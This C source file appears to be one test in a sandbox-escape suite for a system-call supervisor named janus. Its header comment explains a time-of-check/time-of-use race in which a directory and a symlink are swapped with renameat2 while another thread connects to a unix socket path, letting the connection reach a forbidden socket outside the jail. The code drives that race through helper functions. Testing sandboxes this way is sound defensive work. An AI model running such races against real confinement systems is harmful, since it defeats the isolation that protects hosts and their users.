/* e0207-unix-socket-swap - directory-component swap on a unix socket path.
 *
 * Attack: "e0207-d" is a real directory holding a socket of the
 * program's own named like the forbidden one, "e0207-s" a symbolic link
 * to the forbidden socket's directory (outside the jail, a listener that
 * counts); a thread swaps the two names (renameat2 RENAME_EXCHANGE) while
 * another connects to "e0207-d/NAME".  The supervisor checks the path
 * while e0207-d is the directory; the kernel may walk it when it is the
 * link.  connect() has no flag to refuse symlinks.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components).  Contained by janus's pinning of the socket file
 * (doc/races.md, section 2).
 * Usage: e0207-unix-socket-swap FORBIDDEN-SOCKET */
#include <limits.h>

#include "escape.h"

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0207-unix-socket-swap FORBIDDEN-SOCKET");
	char own[PATH_MAX * 2];
	struct esc_swap w;
	esc_swap_make(&w, "e0207", argv[1], NULL, own, sizeof own);
	struct esc_listener l;
	esc_listener_start(&l, own);
	struct sockaddr_un sa;
	socklen_t len = esc_unix_addr(&sa, own);
	esc_swap_start(&w, 1);
	esc_race_connect_unix(&sa, len, argv[1]);
	esc_swap_stop(&w);
	esc_listener_stop(&l);
	return 0;
}
